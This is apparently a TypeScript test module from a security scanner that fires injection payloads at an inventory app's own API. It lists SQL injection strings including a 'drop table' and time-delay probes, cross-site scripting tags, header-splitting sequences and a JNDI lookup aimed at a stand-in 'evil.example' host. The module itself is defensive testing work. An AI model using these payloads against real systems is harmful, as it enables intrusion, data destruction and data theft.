import { raw } from '../attacker.ts';
import type { Attack } from '../scan.ts';

const SQL = [
  "'",
  "''",
  "';--",
  "' or 1=1--",
  "') or ('1'='1",
  "'; drop table inventory.item;--",
  "' union select 1,2,3--",
  '1; select pg_sleep(2)',
  "'||pg_sleep(2)||'",
  '%',
  '_',
  '\\',
  '%%%%%%%%%%%%%%%%%%%%',
  "\\'; select 1",
  '$1',
  '$$',
  ':1',
  '{1,2}',
  '1e5',
  '0x1',
  '\u0000',
  'ʼ or 1=1--',
  '﹪',
  '\u202e',
  "a'||(select version())||'b",
];
const HEADERS = [
  'X-Request-Id',
  'X-Forwarded-For',
  'User-Agent',
  'Cookie',
  'Referer',
  'Accept-Language',
  'Accept',
  'X-Sodaily-CSRF',
  'If-None-Match',
  'Range',
];
const VALUES = [
  'a'.repeat(7_000),
  '<script>alert(1)</script>',
  "' or 1=1--",
  '127.0.0.1, evil',
  '::1',
  'a=b; a=c; __proto__=x',
  '*/*;q=abc',
  'bytes=0-999999999',
  '${jndi:ldap://evil.example}',
  '%0d%0aX-Injected:1',
];
const SPLITS = [
  '\r\nX-Injected: 1',
  '\rX-Injected: 1',
  '\nX-Injected: 1',
  '%0d%0aX-Injected: 1',
  '\u560d\u560aX-Injected: 1',
];

/** SQL in every text, and headers that want to become two. */
export const injectionAttack: Attack = {
  name: 'SQL and header injection',
  async run({ people, report, stranger, target }) {
    const sales = people.sales.at;
    const free = sales.at(target.freeUrl);
    for (const text of SQL) {
      const word = encodeURIComponent(text);
      const began = performance.now();
      report.answer(`items ${text}`, await sales.get(`/api/v1/inventory/items?q=${word}`));
      report.answer(
        `agencies ${text}`,
        await sales.get(`/api/v1/agency/agencies?q=${word}&limit=5`),
        { hides: ['An Khang', 'DL0004'] },
      );
      report.answer(
        `limit ${text}`,
        await sales.get(`/api/v1/inventory/items?limit=${word}&offset=${word}`),
        { status: [200, 400] },
      );
      report.answer(`slip ${text}`, await sales.get(`/api/v1/inventory/issues/${word}`), {
        status: [400, 404],
      });
      report.answer(`session ${text}`, await sales.send('DELETE', `/auth/sessions/${word}`), {
        status: [400, 404],
      });
      for (const [what, query] of [
        ['by key', 'query($t: ID!) { agency(id: $t) { name } }'],
        [
          'by code',
          'query($t: String!) { agencyByCode(code: $t) { name } issueByCode(code: $t) { id } }',
        ],
        [
          'by search',
          'query($t: String!) { searchAgencies(query: $t) { nodes { name } } '
            + 'searchIssues(query: $t) { nodes { code } } searchItems(query: $t) { nodes { '
            + 'sku } } }',
        ],
        [
          'by filter',
          'query($t: String!) { agencies(filter: {name: {in: [$t]}}) { nodes { name } } }',
        ],
        ['by cursor', 'query($t: Cursor!) { agencies(after: $t) { nodes { name } } }'],
      ] as const)
        report.answer(`${what} ${text}`, await free.graphql(query, { t: text }), {
          hides: ['An Khang', 'DL0004'],
        });
      report.answer(`email ${text}`, await stranger().signIn(`${text}@sodaily.test`, text), {
        status: [400, 401],
      });
      report.expect(
        `nobody slept for ${text}`,
        performance.now() - began < 2_000,
        'it took two seconds',
      );
    }
    for (const name of HEADERS) {
      for (const value of VALUES) {
        report.answer(
          `${name}: ${value.slice(0, 30)}`,
          await sales.get('/auth/me', { [name]: value }),
          { hides: ['<script>', 'evil.example'] },
        );
      }
    }
    for (const split of SPLITS) {
      for (const line of [`GET /healthz${split} HTTP/1.1`, `GET /healthz?a=${split} HTTP/1.1`]) {
        const answer = await raw(
          target.url,
          `${line}\r\nHost: x\r\nX-Request-Id: abcdefgh${split}\r\nConnection: close\r\n\r\n`,
        );
        report.answer(`split ${JSON.stringify(split)}`, answer);
      }
    }
  },
};
